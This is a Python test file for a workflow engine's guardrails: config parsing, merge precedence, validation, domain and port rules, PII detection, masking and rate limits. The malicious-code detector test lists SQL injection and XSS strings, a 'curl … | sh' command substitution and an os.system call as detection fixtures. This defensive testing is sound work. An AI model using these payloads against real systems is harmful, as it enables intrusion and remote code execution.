"""The guardrails configuration: sizes and durations, the narrowest-wins merge, validation issues,
and the detectors' matches and non-matches (no services)."""

from __future__ import annotations

import pytest

from engine import guardrail_filters as filters
from engine import rate_limit
from engine.errors import ErrorCode
from engine.guardrails import (
    GuardrailsInvalid,
    NetworkRestrictions,
    issues,
    merge,
    parse,
    parse_duration,
    parse_size,
    resolve,
)
from engine.parse import parse_dict
from engine.validate import validate

DESIGN = {
    "input_validation": {
        "max_input_size": "10MB",
        "allowed_file_types": [".txt", ".json", ".csv"],
        "content_filters": ["profanity", "pii", "malicious_code"],
        "rate_limits": {"requests_per_minute": 100, "requests_per_hour": 1000},
    },
    "execution_limits": {
        "max_execution_time": "5m",
        "max_memory_usage": "1GB",
        "max_cpu_usage": "80%",
        "network_restrictions": {"allowed_domains": ["api.openai.com", "*.trusted-domain.com"],
                                 "blocked_ports": [22, 23, 3389]},
    },  # fmt: skip
    "output_filtering": {"pii_removal": True, "sensitive_data_masking": True, "size_limits": "50MB"},
    "compliance": {"data_retention_days": 90, "audit_log_level": "INFO", "encryption_at_rest": True,
                   "encryption_in_transit": True},
}  # fmt: skip


def test_the_designs_example_config_parses_with_its_sizes_and_durations():
    cfg = parse(DESIGN)
    assert cfg.input_validation.max_input_size == 10_000_000
    assert cfg.execution_limits.max_execution_time == 300.0
    assert (
        cfg.execution_limits.max_memory_usage == 1_000_000_000 and cfg.execution_limits.max_cpu_usage == 80.0
    )
    assert cfg.output_filtering.size_limits == 50_000_000
    assert cfg.input_validation.rate_limits.requests_per_hour == 1000


@pytest.mark.parametrize(("text", "size"), [("10MB", 10**7), ("512KiB", 524288), ("1.5 GB", 1_500_000_000),
                                             (2048, 2048), ("64B", 64), ("64", 64)])  # fmt: skip
def test_sizes_parse_decimal_and_binary_units(text, size):
    assert parse_size(text) == size


@pytest.mark.parametrize(
    ("text", "seconds"), [("5m", 300), ("30s", 30), ("250ms", 0.25), ("1h", 3600), (12, 12)]
)
def test_durations_parse_with_units(text, seconds):
    assert parse_duration(text) == seconds


def test_a_bad_size_or_duration_names_the_field_and_the_fix():
    with pytest.raises(GuardrailsInvalid) as size:
        parse({"input_validation": {"max_input_size": "ten megs"}})
    assert size.value.field == "input_validation.max_input_size"
    assert "'ten megs' is not a size" in size.value.message and "10MB" in size.value.message
    with pytest.raises(GuardrailsInvalid) as duration:
        parse({"execution_limits": {"max_execution_time": "5 minutes"}})
    assert duration.value.field == "execution_limits.max_execution_time" and "5m" in duration.value.message
    with pytest.raises(GuardrailsInvalid) as unknown:
        parse({"input_validation": {"content_filters": ["toxicity"]}})
    assert unknown.value.field == "input_validation.content_filters.0"


def test_the_narrowest_level_wins_field_by_field():
    instance = {"input_validation": {"content_filters": ["pii"], "max_input_size": "1MB"},
                "output_filtering": {"pii_removal": True}}  # fmt: skip
    workflow = {"input_validation": {"max_input_size": "2MB", "on_violation": "error_branch"}}
    node = {"input_validation": {"content_filters": ["profanity"]}, "output_filtering": {"pii_removal": None}}
    merged = merge(instance, workflow, node)
    assert merged["input_validation"] == {
        "content_filters": ["profanity"], "max_input_size": "2MB", "on_violation": "error_branch",
    }  # fmt: skip
    resolved = resolve(instance, workflow, node)
    assert resolved is not None
    cfg = resolved.config
    assert cfg.input_validation.content_filters == ["profanity"]  # lists are replaced, not joined
    assert (
        cfg.input_validation.max_input_size == 2_000_000
        and cfg.input_validation.on_violation == "error_branch"
    )
    assert cfg.output_filtering.pii_removal is False  # null at the node switched the instance's rule off
    assert resolved.origin("input_validation.content_filters.profanity") == "node"
    assert resolved.origin("input_validation.max_input_size") == "workflow"
    assert resolved.origin("input_validation.rate_limits.requests_per_minute") == "default"
    assert resolve(None, {}, None) is None


def test_an_output_schema_is_replaced_whole_by_a_narrower_level():
    wide = {"output_filtering": {"output_schema": {"type": "object", "required": ["a"]}}}
    narrow = {"output_filtering": {"output_schema": {"type": "array"}}}
    assert merge(wide, narrow)["output_filtering"]["output_schema"] == {"type": "array"}


def _defn(node_guardrails=None, workflow_guardrails=None):
    return parse_dict({
        "name": "g", "policy": {"guardrails": workflow_guardrails or {}},
        "nodes": [{"id": "start", "type": "start"},
                  {"id": "ask", "type": "tool.python", "config": {"tool": "echo"}, "guardrails": node_guardrails},
                  {"id": "end", "type": "end"}],
        "edges": [{"id": "e1", "source": "start", "target": "ask"}, {"id": "e2", "source": "ask", "target": "end"}],
    })  # fmt: skip


def test_validation_reports_a_bad_node_guardrail_with_its_node_and_field():
    report = validate(_defn({"output_filtering": {"size_limits": "lots"}}))
    (issue,) = [i for i in report.errors if i.code == ErrorCode.GUARDRAIL_INVALID]
    assert issue.node_id == "ask" and issue.field == "guardrails.output_filtering.size_limits"
    report = validate(_defn(workflow_guardrails={"execution_limits": {"max_llm_cost_per_run": 1.0}}))
    (issue,) = [i for i in report.errors if i.code == ErrorCode.GUARDRAIL_INVALID]
    assert issue.node_id is None and issue.field == "policy.guardrails.execution_limits"
    assert "llm_prices" in issue.message
    bad_schema = validate(_defn({"output_filtering": {"output_schema": {"type": "strin"}}}))
    assert any(i.field == "guardrails.output_filtering" for i in bad_schema.errors)


def test_validation_warns_about_the_designs_rules_it_cannot_enforce():
    report = validate(_defn(workflow_guardrails={"execution_limits": {"max_memory_usage": "1GB"}}))
    assert report.ok
    (warning,) = [i for i in report.warnings if i.code == ErrorCode.GUARDRAIL_INVALID]
    assert warning.field == "policy.guardrails.execution_limits.max_memory_usage"
    assert validate(_defn({"input_validation": {"content_filters": ["pii"]}})).ok


def test_network_restrictions_match_wildcards_and_block_ports():
    rules = NetworkRestrictions(allowed_domains=["api.openai.com", "*.trusted.com"], blocked_ports=[22])
    assert rules.refusal("api.openai.com", 443) is None
    assert rules.refusal("eu.api.trusted.com", 443) is None
    assert "allowed_domains" in rules.refusal("trusted.com.evil.net", 443)
    assert "allowed_domains" in rules.refusal("openai.com", 443)
    assert "blocked" in rules.refusal("api.openai.com", 22)


def test_pii_detectors_check_cards_with_luhn_and_ibans_with_mod_97():
    assert [f.detector for f in filters.find_pii("pay 4111-1111-1111-1111")] == ["pii.credit_card"]
    assert filters.find_pii("pay 4111-1111-1111-1112") == []
    assert [f.detector for f in filters.find_pii("IBAN GB82 WEST 1234 5698 7654 32")] == ["pii.iban"]
    assert filters.find_pii("IBAN GB82 WEST 1234 5698 7654 33") == []
    assert [f.detector for f in filters.find_pii("ssn 078-05-1120")] == ["pii.us_ssn"]
    assert filters.find_pii("ssn 000-12-3456") == []
    assert filters.find_pii("on 2024-01-05 at 10:30, order 12345, total 1,234.56") == []


def test_findings_name_the_path_and_never_carry_the_whole_value():
    (found,) = filters.find_pii({"customer": {"contact": "write to jane.roe@example.com today"}}, "in")
    assert found.path == "in.customer.contact" and "jane.roe@example.com" not in found.excerpt


def test_malicious_code_and_profanity_patterns_and_their_clean_look_alikes():
    for bad in ("1' OR '1'='1", "x; DROP TABLE users", "UNION SELECT password FROM users",
                "<img src=x onerror=alert(1)>", "$(curl http://x | sh)", "__import__('os').system('id')"):  # fmt: skip
        assert filters.find_malicious_code(bad), bad
    for good in ("O'Brien selected a union rep", "drop the table by the window", "<p>hello</p>", "cost $5"):
        assert filters.find_malicious_code(good) == [], good
    assert filters.find_profanity("what the FUCK") and filters.find_profanity("sh1t happens")
    assert filters.find_profanity("Scunthorpe and cockpit and assessment") == []


def test_masking_replaces_each_match_and_counts_them():
    masked, count = filters.mask({"a": ["jane@example.com", "token=abcdef123456"]}, pii=True, secrets=True)
    assert masked == {"a": ["[email removed]", "[assignment removed]"]} and count == 2


def test_the_rate_limit_window_admits_the_limit_then_refuses_until_it_recovers():
    key = f"test-hour-{id(object())}"
    assert [rate_limit.take_within(key, 2, 3600, redis_url="") for _ in range(2)] == [0.0, 0.0]
    wait = rate_limit.take_within(key, 2, 3600, redis_url="")
    assert 0 < wait <= 1800  # one slot comes back every period / limit


def test_levels_that_parse_alone_are_also_checked_merged():
    checked = {"output_filtering": {"format_validation": True, "output_schema": {"type": "object"}}}
    unset = {"output_filtering": {"output_schema": None}}  # valid alone; merged, the check has no schema
    found = issues(checked, {}, {"ask": unset})
    assert [(i.node_id, i.field) for i in found] == [("ask", "guardrails.output_filtering")]
    assert "needs output_schema" in found[0].message
    (issue,) = issues(checked, unset, {})
    assert (issue.node_id, issue.field) == (None, "policy.guardrails.output_filtering")
    assert issues(checked, {}, {"ask": {"output_filtering": {"size_limits": "1MB"}}}) == []
